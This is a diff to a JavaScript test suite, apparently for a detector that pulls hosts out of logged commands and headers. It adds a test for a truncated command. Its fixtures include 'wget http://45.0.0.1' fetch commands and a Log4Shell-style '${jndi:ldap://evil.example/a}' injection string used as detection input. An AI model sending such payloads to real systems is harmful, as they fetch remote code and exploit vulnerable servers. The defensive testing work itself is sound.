@@ -245,6 +245,13 @@ it("shows the words around the host", () => {
   expect(text).toContain("c=wget+http://45.0.0.1/x&a=b");
 });
 
+it("leaves out a host that was cut with its text", () => {
+  const command = `${"true;".repeat(201)}wget http://45.0.0.1`;
+  expect(command).toHaveLength(1_025);
+  expect(typed(command)).toEqual([]);
+  expect(typed(`${command} `)).toEqual(["http://45.0.0.1:80/"]);
+});
+
 it("tells of the same call once, however often it is named", () => {
   const line = "${jndi:ldap://evil.example/a}";
   const header_lines = Array.from({ length: 40 }, (_, index) => `X-${index}: ${line}`);
